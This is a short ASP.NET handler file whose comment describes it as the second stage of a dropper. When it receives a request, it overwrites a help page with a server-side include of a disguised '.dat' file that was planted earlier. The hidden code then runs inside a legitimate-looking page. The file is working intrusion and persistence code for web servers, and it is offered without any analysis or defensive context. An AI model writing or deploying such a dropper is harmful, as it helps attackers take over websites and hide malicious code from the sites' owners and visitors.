<%@ WebHandler Language="C#" Class="Sync" %>
using System.IO;
using System.Web;
// second stage of a dropper: the page it writes holds no code of its own, only a server-side
// include that compiles another file (planted earlier under an innocent name) into it
public class Sync : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        File.WriteAllText(context.Server.MapPath("~/help/index.aspx"),
            "<!-- #include file=\"../images/banner.dat\" -->");
        context.Response.Write("done");
    }
    public bool IsReusable { get { return false; } }
}
